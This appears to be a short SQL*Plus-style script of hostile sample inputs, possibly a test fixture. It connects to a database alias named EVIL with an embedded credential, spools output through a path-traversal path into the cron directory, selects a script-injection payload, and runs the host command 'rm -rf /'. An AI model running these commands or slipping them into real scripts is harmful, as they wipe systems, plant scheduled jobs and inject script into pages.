CONNECT scott/hunter4-Secret@EVIL
SPOOL ../../etc/cron.d/x
SELECT '<script>alert(1)</script>' FROM t;
HOST rm -rf /
